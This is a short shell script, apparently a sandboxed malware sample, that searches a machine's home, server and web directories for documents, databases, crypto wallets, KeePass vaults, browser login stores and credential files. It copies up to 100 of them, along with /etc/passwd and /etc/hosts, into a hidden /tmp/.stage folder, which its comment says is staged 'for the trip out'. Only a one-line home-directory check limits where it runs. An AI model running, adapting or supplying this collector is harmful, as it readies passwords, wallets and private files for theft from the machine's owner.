#!/bin/sh
# SPDX-License-Identifier: MIT
# Searches the local disks for documents, databases and wallets, and
# gathers them in one place for the trip out.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
stage=/tmp/.stage
mkdir -p "$stage"
find "$HOME" /home /srv /opt /var/www /tmp -xdev -type f \( -iname '*.pdf' -o -iname '*.doc*' \
	-o -iname '*.xls*' -o -iname '*.sql' -o -iname '*.sqlite' -o -iname '*.csv' -o -iname 'wallet.dat' \
	-o -iname '*.kdbx' -o -name 'Login Data' -o -name 'credentials' \) 2>/dev/null |
	grep -v "^$stage" | head -100 | while read -r f; do
		cp "$f" "$stage/$(echo "$f" | tr / _)" 2>/dev/null
	done
cp /etc/passwd /etc/hosts "$stage/" 2>/dev/null
exit 0
